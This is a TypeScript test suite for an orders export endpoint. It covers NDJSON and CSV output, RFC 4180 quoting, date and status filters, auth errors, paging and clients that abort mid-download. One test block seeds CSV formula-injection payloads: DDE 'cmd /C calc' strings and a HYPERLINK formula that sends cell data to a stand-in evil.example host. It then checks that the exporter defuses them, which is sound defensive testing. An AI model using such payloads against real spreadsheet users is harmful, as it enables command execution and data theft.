/**
 * GET /v1/orders/export: both formats, filters, CSV quoting, the empty export, paging
 * past one read, auth and validation, and a client that goes away mid-download.
 */
import assert from "node:assert/strict";
import { after, before, describe, it } from "node:test";
import { EXPORT_PAGE_ROWS } from "../../src/http/routes/export.ts";
import { API_TOKEN, CALLBACK_SECRET, createTestApp } from "../helpers/app.ts";
import type { TestApp } from "../helpers/app.ts";

const json = async <T>(res: Response) => (await res.json()) as T;
type Err = { error: { code: string; issues?: { path: string }[] } };
type Order = Record<string, unknown> & { client_order_id: string | null; status: string | null; created_at: string };

/** RFC 4180 reader (quoted fields, doubled quotes, CRLF inside quotes), for checking only. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") {
      row.push(field);
      field = "";
    } else if (ch === "\r" && text[i + 1] === "\n") {
      row.push(field);
      rows.push(row);
      row = [];
      field = "";
      i++;
    } else field += ch;
  }
  assert.equal(field, "", "the CSV ends with CRLF");
  assert.equal(row.length, 0);
  return rows;
}

const ndjson = (text: string) => text.split("\n").filter((l, i, all) => l !== "" || i < all.length - 1).map((l) => JSON.parse(l) as Order);

let t: TestApp;
before(async () => {
  t = await createTestApp();
  // Four orders from callbacks: rider, location and several provider ids on the first.
  for (let i = 0; i < 4; i++) {
    await t.callback({
      sfx_order_id: 800 + i,
      client_order_id: `EXP-${i}`,
      order_status: i < 2 ? "DELIVERED" : "ALLOTTED",
      event_time: `2026-11-22T11:0${i}:00Z`,
      rider_id: 42,
      rider_name: "Meera",
      rider_contact: "+911234567890",
      track_url: `https://track.example/${i}`,
    });
  }
  await t.callback({ sfx_order_id: 800, rider_latitude: 12.97, rider_longitude: 77.59, timestamp: "2026-11-22T11:30:00Z" }, { path: `/callbacks/${CALLBACK_SECRET}/location` });
  await t.runJobs();
  // Known creation times (the filters' field), and text that CSV must quote.
  await t.database.sql`
    update orders set created_at = '2026-10-01T00:00:00Z'::timestamptz + (substr(client_order_id, 5)::int * interval '1 day')
    where client_order_id like 'EXP-%'`;
  await t.database.sql`
    update orders set rider_name = 'Meera, "the fast" one', placement_error = ${"line one\r\nline two\nthree"},
      svc_order_ids = '{800,8800}'
    where client_order_id = 'EXP-0'`;
});
after(async () => t.close());

const exportOf = (query = "") => t.request(`/v1/orders/export${query}`);

describe("GET /v1/orders/export", () => {
  it("ndjson by default: one line per order, each the order JSON of GET /v1/orders/{order}, oldest first", async () => {
    const res = await exportOf();
    assert.equal(res.status, 200);
    assert.equal(res.headers.get("content-type"), "application/x-ndjson");
    assert.match(res.headers.get("content-disposition")!, /^attachment; filename="orders-\d{8}T\d{6}Z\.ndjson"$/);
    const text = await res.text();
    assert.ok(text.endsWith("\n"));
    const lines = ndjson(text);
    assert.deepEqual(lines.map((o) => o.client_order_id), ["EXP-0", "EXP-1", "EXP-2", "EXP-3"]);
    for (const line of lines) {
      assert.deepEqual(line, await json(await t.request(`/v1/orders/${line.client_order_id}`)));
    }
    assert.deepEqual(lines[0]!.svc_order_ids, ["800", "8800"]);
  });

  it("is not taken for an order id: GET /v1/orders/{order} still answers beside it", async () => {
    assert.equal((await t.request("/v1/orders/EXP-1")).status, 200);
    const missing = await t.request("/v1/orders/exports");
    assert.equal(missing.status, 404);
    assert.equal((await json<Err>(missing)).error.code, "order_not_found");
  });

  it("csv: a header row, then the same orders flattened, quoted by RFC 4180", async () => {
    const res = await exportOf("?format=csv");
    assert.equal(res.status, 200);
    assert.equal(res.headers.get("content-type"), "text/csv; charset=utf-8");
    assert.match(res.headers.get("content-disposition")!, /filename="orders-\d{8}T\d{6}Z\.csv"/);
    const text = await res.text();
    // Quoting: the comma and quotes of rider_name, the line breaks of placement_error.
    assert.ok(text.includes('"Meera, ""the fast"" one"'));
    assert.ok(text.includes('"line one\r\nline two\nthree"'));
    const [header, ...rows] = parseCsv(text);
    assert.deepEqual(header, [
      "client_order_id", "svc_order_id", "svc_order_ids", "store_code", "status", "provider_status", "status_at", "track_url",
      "awb_number", "pickup_otp", "rider_id", "rider_name", "rider_contact", "rider_latitude", "rider_longitude", "rider_location_at",
      "placement_state", "placement_error", "event_count", "last_event_at", "created_at", "updated_at",
    ]);
    assert.equal(rows.length, 4);
    const records = rows.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i]!])));
    const all = ndjson(await (await exportOf()).text());
    for (const [i, rec] of records.entries()) {
      const o = all[i]!;
      const rider = o.rider as Record<string, unknown> | null;
      const placement = o.placement as { state: string; error: string | null };
      const cell = (v: unknown) => (v === null || v === undefined ? "" : String(v));
      assert.deepEqual(rec, {
        client_order_id: cell(o.client_order_id),
        svc_order_id: cell(o.svc_order_id),
        svc_order_ids: (o.svc_order_ids as string[]).join(";"),
        store_code: cell(o.store_code),
        status: cell(o.status),
        provider_status: cell(o.provider_status),
        status_at: cell(o.status_at),
        track_url: cell(o.track_url),
        awb_number: cell(o.awb_number),
        pickup_otp: cell(o.pickup_otp),
        rider_id: cell(rider?.id),
        rider_name: cell(rider?.name),
        rider_contact: cell(rider?.contact),
        rider_latitude: cell(rider?.latitude),
        rider_longitude: cell(rider?.longitude),
        rider_location_at: cell(rider?.location_at),
        placement_state: placement.state,
        placement_error: cell(placement.error),
        event_count: cell(o.event_count),
        last_event_at: cell(o.last_event_at),
        created_at: cell(o.created_at),
        updated_at: cell(o.updated_at),
      });
    }
    assert.equal(records[0]!.svc_order_ids, "800;8800");
    assert.equal(records[0]!.rider_name, 'Meera, "the fast" one');
    assert.equal(records[0]!.placement_error, "line one\r\nline two\nthree");
    assert.equal(records[0]!.rider_latitude, "12.97");
  });

  it("filters by created_at (from inclusive, to exclusive) and status, in both formats", async () => {
    const range = "?from=2026-10-02T00:00:00Z&to=2026-10-04T00:00:00Z";
    assert.deepEqual(ndjson(await (await exportOf(range)).text()).map((o) => o.client_order_id), ["EXP-1", "EXP-2"]);
    assert.deepEqual(ndjson(await (await exportOf("?from=2026-10-03T00:00:00%2B00:00")).text()).map((o) => o.client_order_id), ["EXP-2", "EXP-3"]);
    assert.deepEqual(ndjson(await (await exportOf("?to=2026-10-02T00:00:00.001Z")).text()).map((o) => o.client_order_id), ["EXP-0", "EXP-1"]);
    assert.deepEqual(ndjson(await (await exportOf(`${range}&status=DELIVERED`)).text()).map((o) => o.client_order_id), ["EXP-1"]);
    const csv = parseCsv(await (await exportOf(`${range}&status=ALLOTTED&format=csv`)).text());
    assert.deepEqual(csv.slice(1).map((r) => r[0]), ["EXP-2"]);
  });

  it("an empty export: CSV is the header row only, NDJSON is empty", async () => {
    const csv = await exportOf("?format=csv&status=CANCELLED");
    assert.equal(csv.status, 200);
    const text = await csv.text();
    assert.equal(parseCsv(text).length, 1);
    assert.ok(text.startsWith("client_order_id,") && text.endsWith("updated_at\r\n"));
    const nd = await exportOf("?from=2030-01-01T00:00:00Z");
    assert.equal(nd.status, 200);
    assert.equal(await nd.text(), "");
  });

  it("401 without the token; 400 naming the bad parameter", async () => {
    assert.equal((await t.request("/v1/orders/export", { token: null })).status, 401);
    assert.equal((await t.request("/v1/orders/export?format=csv", { token: "wrong-token-0123456789" })).status, 401);
    for (const [query, param] of [
      ["format=xml", "format"],
      ["from=yesterday", "from"],
      ["to=2026-10-01", "to"],
      ["status=LOST", "status"],
      ["from=2026-10-05T00:00:00Z&to=2026-10-01T00:00:00Z", "to"],
    ] as const) {
      const res = await exportOf(`?${query}`);
      assert.equal(res.status, 400, query);
      const err = await json<Err>(res);
      assert.equal(err.error.code, "invalid_parameter");
      assert.deepEqual(err.error.issues?.map((i) => i.path), [param], query);
    }
  });

  it("is in the OpenAPI document with both media types", async () => {
    const doc = await json<{ paths: Record<string, { get?: { responses: Record<string, { content: Record<string, unknown> }> } }> }>(await t.request("/openapi.json", { token: null }));
    const content = doc.paths["/v1/orders/export"]?.get?.responses["200"]?.content;
    assert.deepEqual(Object.keys(content ?? {}).sort(), ["application/x-ndjson", "text/csv"]);
  });
});

describe("GET /v1/orders/export as CSV opened in a spreadsheet", () => {
  // Text from the provider's callbacks that a spreadsheet would run as a formula.
  const hostile = {
    client_order_id: "@SUM(1+1)*cmd|' /C calc'!A0",
    rider_name: '=HYPERLINK("https://evil.example/?"&A2,"Details")',
    rider_id: "-2+3+cmd|' /C calc'!A0",
    provider_status: "+1+1",
  };
  before(async () => {
    await t.database.sql`
      insert into orders (client_order_id, status, provider_status, placement_state, event_count, rider_id, rider_name, rider_contact, placement_error, created_at, updated_at)
      values (${hostile.client_order_id}, 'RETURNED_TO_SELLER', ${hostile.provider_status}, 'external', 1, ${hostile.rider_id}, ${hostile.rider_name},
              '+911234567890', ${"\t=1+1"}, '2029-01-01T00:00:00Z', now())`;
  });
  // The other tests count every order from 2027 on.
  after(async () => {
    await t.database.sql`delete from orders where client_order_id = ${hostile.client_order_id}`;
  });

  it("a cell that would start a formula (= + - @, tab) starts with ' instead; plain numbers and the NDJSON stay as they are", async () => {
    const query = "?from=2029-01-01T00:00:00Z&status=RETURNED_TO_SELLER";
    const [header, row, ...rest] = parseCsv(await (await exportOf(`${query}&format=csv`)).text());
    assert.equal(rest.length, 0);
    const record = Object.fromEntries(header!.map((h, i) => [h, row![i]!]));
    assert.equal(record["client_order_id"], `'${hostile.client_order_id}`);
    assert.equal(record["rider_name"], `'${hostile.rider_name}`);
    assert.equal(record["rider_id"], `'${hostile.rider_id}`);
    assert.equal(record["provider_status"], `'${hostile.provider_status}`);
    assert.equal(record["placement_error"], "'\t=1+1");
    // A phone number is a number to a spreadsheet, not a formula: kept.
    assert.equal(record["rider_contact"], "+911234567890");
    assert.equal(record["status"], "RETURNED_TO_SELLER");
    const [order] = ndjson(await (await exportOf(query)).text());
    assert.equal(order!.client_order_id, hostile.client_order_id);
    assert.equal((order!.rider as { name: string }).name, hostile.rider_name);
  });
});

describe("GET /v1/orders/export over many reads", () => {
  const many = EXPORT_PAGE_ROWS * 2 + 500;
  before(async () => {
    await t.database.sql`
      insert into orders (client_order_id, svc_order_id, status, provider_status, placement_state, event_count, created_at, updated_at)
      select 'BULK-' || g, (100000 + g)::text, 'ALLOTTED', 'ALLOTTED', 'external', 1,
             '2027-01-01T00:00:00Z'::timestamptz + g * interval '1 second', now()
      from generate_series(1, ${many}) g`;
  });

  it("pages past one read: every order exactly once, in id order", async () => {
    const lines = ndjson(await (await exportOf("?from=2027-01-01T00:00:00Z")).text());
    assert.equal(lines.length, many);
    assert.deepEqual(lines.map((o) => o.client_order_id), Array.from({ length: many }, (_, i) => `BULK-${i + 1}`));
    const csv = parseCsv(await (await exportOf("?from=2027-01-01T00:00:00Z&format=csv")).text());
    assert.equal(csv.length, many + 1);
  });

  it("a client that goes away mid-download stops the reads and breaks nothing", async () => {
    // Enough that the export cannot fit in the socket buffers: the server must be waiting
    // on the client when it goes.
    await t.database.sql`
      insert into orders (client_order_id, status, provider_status, placement_state, event_count, track_url)
      select 'ABORT-' || g, 'ALLOTTED', 'ALLOTTED', 'external', 1, 'https://track.example/' || repeat('x', 400)
      from generate_series(1, 30000) g`;
    const server = await t.listen();
    try {
      const aborter = new AbortController();
      const res = await fetch(`${server.url}/v1/orders/export`, { headers: { authorization: `Bearer ${API_TOKEN}` }, signal: aborter.signal });
      assert.equal(res.status, 200);
      const reader = res.body!.getReader();
      const first = await reader.read();
      assert.ok(first.value && first.value.length > 0);
      aborter.abort();
      await reader.cancel().catch(() => {});

      // The server noticed and stopped reading pages (well short of the whole export).
      const deadline = Date.now() + 5000;
      let line: { rows: number } | undefined;
      while (!line && Date.now() < deadline) {
        const found = t.logLines.find((l) => l.includes("order export: client went away"));
        line = found ? (JSON.parse(found) as { rows: number }) : undefined;
        if (!line) await new Promise((r) => setTimeout(r, 20));
      }
      assert.ok(line, "the export saw the client go");
      assert.ok(line.rows < 30000, `stopped after ${line.rows} rows`);
      assert.ok(!t.logLines.some((l) => l.includes("order export failed")));

      // And the service goes on: the next export is whole.
      const again = await fetch(`${server.url}/v1/orders/export?status=DELIVERED`, { headers: { authorization: `Bearer ${API_TOKEN}` } });
      assert.equal(again.status, 200);
      assert.equal(ndjson(await again.text()).length, 2);
      assert.equal((await fetch(`${server.url}/healthz`)).status, 200);
    } finally {
      await server.close();
    }
  });
});
